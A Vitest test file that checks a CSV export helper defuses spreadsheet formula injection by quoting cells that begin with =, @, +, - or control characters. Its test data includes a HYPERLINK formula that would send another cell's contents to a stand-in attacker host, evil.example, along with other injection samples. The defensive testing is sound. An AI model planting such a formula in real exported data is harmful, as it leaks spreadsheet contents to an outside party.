/** Downloads are safe to open in a spreadsheet (expectations written by hand). */
import { describe, expect, it } from 'vitest';
import { inertCell, toCsv } from '../../src/lib/downloads/tables.ts';

describe('CSV cells a spreadsheet would run', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A2,"查看")', `'=HYPERLINK("http://evil.example/?"&A2,"查看")`],
    ['@SUM(1+1)', "'@SUM(1+1)"],
    ['+cmd', "'+cmd"],
    ['-2+3', "'-2+3"],
    ['\tx', "'\tx"],
    ['\rx', "'\rx"],
    ['--', "'--"],
    ['-3.5', '-3.5'],
    ['公报', '公报'],
    ['a=b', 'a=b'],
  ])('%j → %j', (cell, expected) => {
    expect(inertCell(cell)).toBe(expected);
  });

  it('writes numbers as numbers: a negative value stays a number', () => {
    expect(toCsv(['year', 'value', 'source'], [{ year: 2026, value: -3.2, source: '=1+1' }])).toBe(`\uFEFFyear,value,source\r\n2026,-3.2,'=1+1\r\n`);
  });
});
